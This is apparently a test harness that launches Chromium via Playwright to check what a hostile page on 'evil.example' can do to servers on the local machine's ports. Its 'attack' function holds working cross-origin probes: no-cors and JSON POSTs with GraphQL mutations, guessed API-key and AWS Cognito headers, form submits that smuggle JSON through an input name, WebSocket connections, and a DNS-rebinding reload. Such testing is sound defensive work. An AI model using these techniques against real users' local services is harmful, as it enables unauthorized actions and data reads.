// A page of a site that its visitor does not know, in Chromium: what can it do to the ports of this machine?
//
// The site's names lead to this machine too, so nothing but the servers themselves stands in its way: no network between
// them, and certificates are not looked at. `asked.ports` are {name, url}; the outcome is what the page could read or open.
import { createServer } from 'node:http';
import { chromium } from 'playwright-core';
import { asked, tell } from './common.mjs';

const SITE = 'evil.example';

const server = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<body>'));
await new Promise((done) => { server.listen(0, '127.0.0.1', done); });
const site = `http://${SITE}:${server.address().port}/`;
const browser = await chromium.launch({
  executablePath: asked.chromium,
  args: [`--host-resolver-rules=MAP ${SITE} 127.0.0.1`, '--ignore-certificate-errors'],
});
const page = await (await browser.newContext({ ignoreHTTPSErrors: true })).newPage();

async function attack({ ports, paths, sockets, title }) {
  const got = [];
  const withTimeout = (attempt) => Promise.race([attempt, new Promise((done) => { setTimeout(done, 5000); })]);
  const loads = (element, url) => withTimeout(new Promise((done) => {
    element.onload = () => { got.push(`${element.tagName} ${url}`); done(); };
    element.onerror = done;
    element.src = url;
    document.body.append(element);
  }));
  const reads = async (url, options) => {
    try {
      const response = await fetch(url, options);
      if (response.ok || response.type === 'cors') got.push(`read ${options.method} ${url}: ${response.status} ${await response.text()}`);
    } catch { /* as it should be */ }
  };
  const connects = (url, protocols) => withTimeout(new Promise((done) => {
    const socket = new WebSocket(url, protocols);
    socket.onopen = () => { got.push(`socket ${url}`); done(); };
    socket.onerror = done;
  }));
  const submits = (url, type) => withTimeout(new Promise((done) => {
    const frame = Object.assign(document.createElement('iframe'), { name: `frame${Math.random()}`, onload: done });
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post', enctype: type, target: frame.name });
    form.append(Object.assign(document.createElement('input'), { name: `{"title": "${title}", "x": "`, value: '"}' }));
    document.body.append(frame, form);
    form.submit();
  }));
  const body = JSON.stringify({ title, query: `mutation { createTask(input: {title: "${title}"}) { task { id } } }` });
  const target = 'AWSCognitoIdentityProviderService.InitiateAuth';
  const every = (some, attempt) => Promise.all(ports.flatMap((port) => some.map((path) => attempt(port + path))));
  await Promise.all([
    every(paths, (url) => Promise.all([
      reads(url, { method: 'GET' }),
      reads(url, { method: 'GET', mode: 'no-cors' }),
      reads(url, { method: 'POST', mode: 'no-cors', body }),
      reads(url, { method: 'POST', mode: 'no-cors', body, referrerPolicy: 'no-referrer' }),
      reads(url, { method: 'POST', headers: { 'content-type': 'text/plain' }, body }),
      reads(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body }),
      reads(url, { method: 'POST', headers: { 'x-api-key': 'da2-guessed', authorization: 'guessed' }, body }),
      reads(url, { method: 'POST', headers: { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': target }, body }),
      reads(url, { method: 'DELETE' }),
      loads(document.createElement('img'), url),
      loads(document.createElement('script'), url),
    ])),
    every(sockets, (url) => connects(url.replace('http', 'ws'), ['graphql-transport-ws', 'graphql-ws'])),
    every(['/task', '/graphql', '/'], (url) => Promise.all(
      ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'].map((type) => submits(url, type)),
    )),
  ]);
  return got;
}

const { ports } = asked;
await page.goto(site);
const got = await page.evaluate(attack, asked);
const rebound = [];
for (const url of ports) { // the same name, now at the port itself: every path is of the page's own origin
  const { protocol, port } = new URL(url);
  const response = await page.goto(`${protocol}//${SITE}:${port}/`).catch(() => null);
  if (response?.ok()) rebound.push(url);
  if (response) got.push(...await page.evaluate(attack, { ...asked, ports: [''] }).catch(() => []));
}
await browser.close();
tell({ got, rebound });
